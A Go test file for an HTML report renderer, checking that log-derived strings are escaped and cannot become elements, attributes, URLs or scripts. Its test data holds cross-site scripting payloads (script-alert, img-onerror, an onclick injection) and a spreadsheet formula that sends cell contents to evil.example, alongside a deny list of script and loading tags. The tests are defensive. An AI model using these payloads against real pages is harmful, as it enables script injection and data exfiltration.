package report

import (
	"encoding/xml"
	"io"
	"regexp"
	"slices"
	"strings"
	"testing"
)

// htmlElements and htmlAttributes are all the report may contain: anything
// else in the output came from a log and became markup.
var (
	htmlElements = []string{"html", "head", "meta", "title", "style", "body", "div", "header", "h1", "h2", "h3", "h4",
		"span", "section", "table", "thead", "tbody", "tr", "th", "td", "a", "bdi", "ul", "ol", "li", "article", "dl", "dt",
		"dd", "p", "strong", "figure", "figcaption", "svg", "line", "text", "circle", "pre", "code", "details", "summary", "footer"}
	htmlAttributes = []string{"lang", "charset", "http-equiv", "content", "name", "class", "id", "href", "role",
		"aria-label", "viewBox", "width", "height", "x", "y", "x1", "y1", "x2", "y2", "cx", "cy", "r", "text-anchor"}
)

// TestHTMLSafe renders the sample and walks the output twice: a raw scan
// of every "<", and a tokenizer over elements and attributes. No log
// string may become an element, an attribute, a URL or a script; each must
// be there as text.
func TestHTMLSafe(t *testing.T) {
	out := render(t, "html", sample(), Options{AllEvidence: true})
	checkTags(t, out)
	text := checkTokens(t, out)
	for _, hostile := range []string{hostileScript, hostileAttr, hostileURL, `=HYPERLINK("http://evil.example/?"&A1`, japanese, hebrew, "invoicefdp.exe"} {
		if !strings.Contains(text, hostile) {
			t.Errorf("%q is not in the page as text", hostile)
		}
	}
	for _, escaped := range []string{"&lt;script&gt;alert(1)&lt;/script&gt;", "&#34;&gt;&lt;img src=x onerror=alert(1)&gt;"} {
		if !strings.Contains(out, escaped) {
			t.Errorf("the page does not hold %q", escaped)
		}
	}
	if strings.Contains(out, "\u202e") || strings.Contains(out, "\x1b") {
		t.Error("a bidi override or an escape sequence reached the page")
	}
}

var tagStart = regexp.MustCompile(`^</?([a-zA-Z][a-zA-Z0-9]*)`)

// checkTags: every "<" in the output opens one of our elements, the
// doctype, or closes one; html/template writes a "<" in text as "&lt;".
func checkTags(t *testing.T, out string) {
	t.Helper()
	for i := strings.IndexByte(out, '<'); i >= 0; i = next(out, i) {
		rest := out[i:]
		if strings.HasPrefix(rest, "<!DOCTYPE html>") {
			continue
		}
		m := tagStart.FindStringSubmatch(rest)
		if m == nil || !slices.Contains(htmlElements, m[1]) {
			t.Errorf("markup that is not ours at byte %d: %.60q", i, rest)
		}
	}
}

func next(s string, i int) int {
	j := strings.IndexByte(s[i+1:], '<')
	if j < 0 {
		return -1
	}
	return i + 1 + j
}

// checkTokens walks elements and attributes and returns the page's text.
func checkTokens(t *testing.T, out string) string {
	t.Helper()
	d := xml.NewDecoder(strings.NewReader(out))
	d.Strict, d.AutoClose, d.Entity = false, xml.HTMLAutoClose, xml.HTMLEntity
	var text strings.Builder
	for {
		tok, err := d.Token()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatalf("the page does not tokenize: %v", err)
		}
		switch tok := tok.(type) {
		case xml.StartElement:
			if !slices.Contains(htmlElements, tok.Name.Local) {
				t.Errorf("element <%s> is not ours", tok.Name.Local)
			}
			for _, a := range tok.Attr {
				checkAttr(t, tok.Name.Local, a)
			}
		case xml.CharData:
			text.Write(tok)
		}
	}
	return text.String()
}

func checkAttr(t *testing.T, elem string, a xml.Attr) {
	t.Helper()
	name, v := strings.ToLower(a.Name.Local), strings.ToLower(a.Value)
	switch {
	case strings.HasPrefix(name, "on") || !slices.Contains(htmlAttributes, a.Name.Local):
		t.Errorf("<%s> has attribute %s=%q", elem, a.Name.Local, a.Value)
	case strings.Contains(v, "javascript:") || strings.Contains(v, "data:") || strings.Contains(v, "http"):
		t.Errorf("<%s %s> holds a URL: %q", elem, name, a.Value)
	case name == "href" && !regexp.MustCompile(`^#[a-z0-9-]+$`).MatchString(a.Value):
		t.Errorf("<%s> links outside the page: %q", elem, a.Value)
	case name == "class" && !regexp.MustCompile(`^[a-z0-9 -]+$`).MatchString(a.Value):
		t.Errorf("<%s> has a class from a log: %q", elem, a.Value)
	}
}

// TestHTMLSelfContained: nothing in the page asks for anything outside it,
// and the policy forbids scripts and loads.
func TestHTMLSelfContained(t *testing.T) {
	out := render(t, "html", sample(), Options{})
	if !strings.Contains(out, `content="default-src &#39;none&#39;`) && !strings.Contains(out, `content="default-src 'none'`) {
		t.Error("no Content-Security-Policy with default-src 'none'")
	}
	for _, bad := range []string{"<script", "<link", "<img", "<iframe", "@import", "url("} {
		if i := strings.Index(out, bad); i >= 0 {
			t.Errorf("the page holds %q at byte %d", bad, i)
		}
	}
}

// TestHTMLUnknownSeverity: a severity the catalog made up is shown, but its
// class is ours.
func TestHTMLUnknownSeverity(t *testing.T) {
	r := sample()
	r.Incidents[0].Severity = `x" onclick="alert(1)`
	out := render(t, "html", r, Options{})
	checkTokens(t, out)
	if !strings.Contains(out, `class="badge unknown"`) {
		t.Error("an unknown severity did not get the class unknown")
	}
}
